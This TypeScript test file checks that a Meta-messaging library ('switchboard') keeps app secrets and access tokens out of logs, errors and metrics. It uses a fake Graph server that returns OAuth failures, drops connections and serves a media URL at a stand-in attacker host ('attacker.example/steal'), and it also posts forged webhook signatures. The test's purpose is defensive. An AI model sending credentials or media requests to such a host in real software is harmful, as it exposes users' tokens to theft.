import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { inspect } from 'node:util';
import type { OutboundMessage } from '@switchboard/core';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { bodyFor } from './sdk-arbitraries.js';
import { type Channel, type Harness, IG, PAGE, PHONE, SECRETS, startHarness } from './sdk-harness.js';

/** A Graph that refuses every call the way Meta does when a token is bad (190), and fails now and then. */
let graph: Server;
let harness: Harness | undefined;
afterAll(async () => {
  await harness?.close();
  await new Promise((resolve) => graph?.close(resolve));
});

async function startGraph(): Promise<string> {
  let calls = 0;
  graph = createServer((req, res) => {
    calls += 1;
    if (calls % 5 === 0) return res.destroy(); // a transport failure (axios error with our request config)
    if (req.url?.includes('/media') || /\/v\d+\.0\/42\b/.test(req.url ?? '')) {
      res.writeHead(200, { 'content-type': 'application/json' });
      return res.end(JSON.stringify({ url: 'https://attacker.example/steal', mime_type: 'image/jpeg' }));
    }
    res.writeHead(400, { 'content-type': 'application/json' });
    res.end(
      JSON.stringify({
        error: {
          message: 'Invalid OAuth access token.',
          type: 'OAuthException',
          code: 190,
          fbtrace_id: 'AbC',
        },
      }),
    );
  });
  await new Promise<void>((resolve) => graph.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(graph.address() as AddressInfo).port}`;
}

const to: Record<Channel, OutboundMessage['to']> = {
  messenger: { channel: 'messenger', accountId: PAGE, userId: '24000000000000001' },
  instagram: { channel: 'instagram', accountId: IG, userId: '24000000000000002' },
  whatsapp: { channel: 'whatsapp', accountId: PHONE, userId: '15551234567' },
};

describe('secrets never leave: logs, error objects, /metrics (issue 13 bad-input suite)', () => {
  it('no app secret, access token or verify token appears anywhere an operator or attacker can read', async () => {
    harness = await startHarness({ graphBaseUrl: await startGraph() });
    const h = harness;
    await h.switchboard.start();
    const errors: unknown[] = [];
    const channels: Channel[] = ['messenger', 'instagram', 'whatsapp'];
    const verify: Record<Channel, string> = {
      messenger: SECRETS.messengerVerify,
      instagram: SECRETS.instagramVerify,
      whatsapp: SECRETS.whatsappVerify,
    };
    for (const channel of channels) {
      // Handshakes: right and wrong verify tokens (the right one answers the challenge, nothing else).
      const ok = await fetch(
        `${h.base}/webhooks/${channel}?hub.mode=subscribe&hub.verify_token=${verify[channel]}&hub.challenge=c1`,
      );
      expect(await ok.text()).toBe('c1');
      await fetch(`${h.base}/webhooks/${channel}?hub.mode=subscribe&hub.verify_token=wrong&hub.challenge=c2`);
      // Generated bodies, signed and forged (mismatch hints included), then processed.
      for (const bytes of fc.sample(bodyFor(channel), { numRuns: 150, seed: 7 })) {
        await h.post(channel, bytes);
        await h.post(channel, bytes, `sha256=${'ab'.repeat(32)}`);
      }
      // Sends that fail (190, transport errors) through the outbox, and directly.
      await h.switchboard.send({ to: to[channel], content: { type: 'text', text: 'hi' } });
      await h.switchboard
        .sendAndWait({ to: to[channel], content: { type: 'text', text: 'wait' } }, { timeoutMs: 5_000 })
        .catch((e: unknown) => errors.push(e));
    }
    await h.switchboard.stop();
    await h.switchboard.drain();
    await h.switchboard.health().catch((e: unknown) => errors.push(e));
    const whatsapp = (await import('@switchboard/whatsapp')).createWhatsAppAdapter({
      appSecret: SECRETS.whatsappAppSecret,
      verifyToken: SECRETS.whatsappVerify,
      accessToken: SECRETS.whatsappToken,
      graphBaseUrl: `http://127.0.0.1:${(graph.address() as AddressInfo).port}`,
    });
    for (let i = 0; i < 3; i++) await whatsapp.downloadMedia('42').catch((e: unknown) => errors.push(e));
    const failed = await h.store.outbox.list({ state: 'failed', limit: 100 });

    const metrics = await h.switchboard.metrics();
    const readable = [
      JSON.stringify(h.lines),
      metrics,
      JSON.stringify(failed),
      ...errors.map((e) => `${String(e)}\n${JSON.stringify(e)}\n${inspect(e, { depth: 6 })}`),
    ].join('\n');
    const codes = errors.map((e) => (e as { code?: string }).code);
    console.info(
      `secrets: ${h.lines.length} log lines, ${failed.length} failed sends, errors ${codes.join(', ')}`,
    );
    expect(h.lines.length).toBeGreaterThan(500);
    expect(errors.length).toBeGreaterThanOrEqual(4);
    expect(readable).toContain('webhook rejected: signature mismatch');
    for (const [name, secret] of Object.entries(SECRETS)) {
      expect(readable.includes(secret), `${name} leaked`).toBe(false);
    }
  });
});
